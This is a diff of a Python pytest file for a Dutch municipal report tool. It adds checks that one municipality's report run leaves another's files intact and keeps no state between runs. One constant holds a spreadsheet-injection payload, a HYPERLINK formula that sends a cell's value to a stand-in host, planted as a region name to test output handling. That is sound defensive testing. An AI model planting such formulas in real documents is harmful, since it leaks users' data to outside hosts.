@@ -156,13 +156,22 @@ FORMULA = '=HYPERLINK("http://example.invalid/?x="&A1,"klik")'
 @pytest.fixture(scope="module")
 def zwijndrecht_after_dordrecht(env, zwijndrecht_first, dordrecht):
     """After Dordrecht's report (the `dordrecht` fixture): whether Zwijndrecht's files stayed as they
-    were; then one Zwijndrecht sheet, FG00 with its name planted as a spreadsheet formula, made by
-    `veerkracht factsheets` in the same process, and whether Dordrecht's files stayed as they were
-    meanwhile. One sheet (one kernel) serves the two tests that read it."""
+    were; then Zwijndrecht's whole report (all stages, sheet FG00) in the same process, and whether
+    Dordrecht's files stayed as they were; then sheet FG00 again with its name planted as a
+    spreadsheet formula, made by `veerkracht factsheets` in the same process, and whether Dordrecht's
+    files stayed as they were meanwhile. That sheet serves the two tests that read it."""
     zw, before = zwijndrecht_first
     seen = {"zwijndrecht_intact": _municipality(env, "GM0642") == before}
     first = _municipality(env, "GM0505")
+    # Zwijndrecht's whole report (build, resilience, goals, one sheet) after Dordrecht's, in this process
+    seen["report_rc"] = cli.main(
+        ["--gemeente", "GM0642", "report", "--only", "FG00", "--force", "--workers", "1"]
+    )
+    seen["dordrecht_intact_after_report"] = _municipality(env, "GM0505") == first
     regions = gpd.read_file(zw.regions, layer="regions")
+    seen["focusgebieden"] = int((regions["level"] == "focusgebied").sum())
+    seen["status"] = (zw.outputs / "goals" / "status.parquet").exists()
+    seen["report_page"] = (zw.outputs / "factsheets" / "fg00-alle-focusbuurten-samen.html").read_text()
     regions.loc[regions["region_code"] == "FG00", "name"] = FORMULA
     zw.regions.unlink()
     regions.to_file(zw.regions, layer="regions", driver="GPKG")
@@ -176,7 +185,8 @@ def zwijndrecht_after_dordrecht(env, zwijndrecht_first, dordrecht):
 
 def test_a_second_municipality_leaves_the_first_intact(zwijndrecht_after_dordrecht):
     """Dordrecht's whole report (build, resilience, goals, sheets) runs while Zwijndrecht's build and
-    analysis are in place; then a Zwijndrecht sheet after Dordrecht's run in one process."""
+    analysis are in place; then Zwijndrecht's whole report and a Zwijndrecht sheet after Dordrecht's
+    run in one process."""
     seen = zwijndrecht_after_dordrecht
     # catches a stage that writes to the default municipality's folders (settings: GM0642) or to
     # folders shared by municipalities instead of those of --gemeente
@@ -184,6 +194,12 @@ def test_a_second_municipality_leaves_the_first_intact(zwijndrecht_after_dordrec
     # the other way round: the Zwijndrecht run after Dordrecht's leaves Dordrecht's files as they
     # are, and its sheet still has the programme (catches state of the Dordrecht run kept in the
     # process: Dordrecht's "no programme" or its areas)
+    assert seen["report_rc"] == 0 and seen["dordrecht_intact_after_report"]
+    assert seen["focusgebieden"] == 16 and seen["status"]  # Zwijndrecht's own areas and goals
+    assert (
+        "Programmadoelen" in seen["report_page"]
+        and "Geen focusgebieden/programmadoelen" not in seen["report_page"]
+    )
     assert seen["rc"] == 0 and seen["dordrecht_intact"]
     assert len(seen["pages"]) == 1
     html = seen["pages"][0].read_text(encoding="utf-8")
